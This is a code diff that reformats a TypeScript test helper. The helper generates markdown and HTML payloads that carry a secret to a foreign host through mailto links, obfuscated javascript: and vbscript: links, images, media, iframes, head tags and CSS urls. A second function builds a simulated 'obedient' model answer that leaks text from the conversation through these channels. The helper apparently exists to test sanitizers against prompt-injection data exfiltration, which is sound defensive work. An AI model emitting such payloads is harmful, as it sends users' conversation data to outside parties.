@@ -26,7 +26,8 @@ export function exits(secret: string): readonly (readonly [name: string, markdow
     ['mail', `<mailto:x@${FOREIGN_HOST}?body=${encodeURIComponent(secret)}>`],
     [
       'script address',
-      `[run](javascript:${script}) [run](vbscript:${script}) [run](java&#115;cript:${script}) [run](JaVaScRiPt:${script})`,
+      `[run](javascript:${script}) [run](vbscript:${script}) [run](java&#115;cript:${script}) ` +
+        `[run](JaVaScRiPt:${script})`,
     ],
     [
       'data address',
@@ -36,17 +37,20 @@ export function exits(secret: string): readonly (readonly [name: string, markdow
     ['img in a sentence', `It is <img src=${at}> so.`],
     [
       'media',
-      `<video poster="${at}" src="${at}" autoplay></video><audio src="${at}"></audio><picture><source srcset="${at}"></picture>`,
+      `<video poster="${at}" src="${at}" autoplay></video><audio src="${at}"></audio><picture>` +
+        `<source srcset="${at}"></picture>`,
     ],
     ['frame', `<iframe src="${at}"></iframe><embed src="${at}"><object data="${at}"></object>`],
     [
       'head',
-      `<link rel="stylesheet" href="${at}"><link rel="dns-prefetch" href="//${FOREIGN_HOST}"><base href="https://${FOREIGN_HOST}/"><meta http-equiv="refresh" content="0;url=${at}">`,
+      `<link rel="stylesheet" href="${at}"><link rel="dns-prefetch" href="//${FOREIGN_HOST}">` +
+        `<base href="https://${FOREIGN_HOST}/"><meta http-equiv="refresh" content="0;url=${at}">`,
     ],
     ['script', `<script src="${at}"></script>`],
     [
       'style',
-      `<style>@import url("${at}"); body { background: url(${at}) }</style><p style="background-image:url('${at}')">x</p>`,
+      `<style>@import url("${at}"); body { background: url(${at}) }</style>` +
+        `<p style="background-image:url('${at}')">x</p>`,
     ],
     ['css in text', `background: url(${at}); {style="background:url(${at})"}`],
     [
@@ -81,7 +85,10 @@ export function obedientAnswer(from = 0, to = Number.POSITIVE_INFINITY): (messag
     const [first] = sentencesIn(messages);
     const secret = `${first?.text ?? 'nothing'} ${messages[0]?.content.slice(0, 40) ?? ''}`;
     const carried = exits(secret).slice(from, to);
-    return `${first ? `${first.text} [${first.key}]` : 'Here it is.'}\n\n${carried.map(([, markdown]) => markdown).join('\n\n')}\n\nThat is all.`;
+    return (
+      `${first ? `${first.text} [${first.key}]` : 'Here it is.'}\n\n` +
+      `${carried.map(([, markdown]) => markdown).join('\n\n')}\n\nThat is all.`
+    );
   };
 }
 
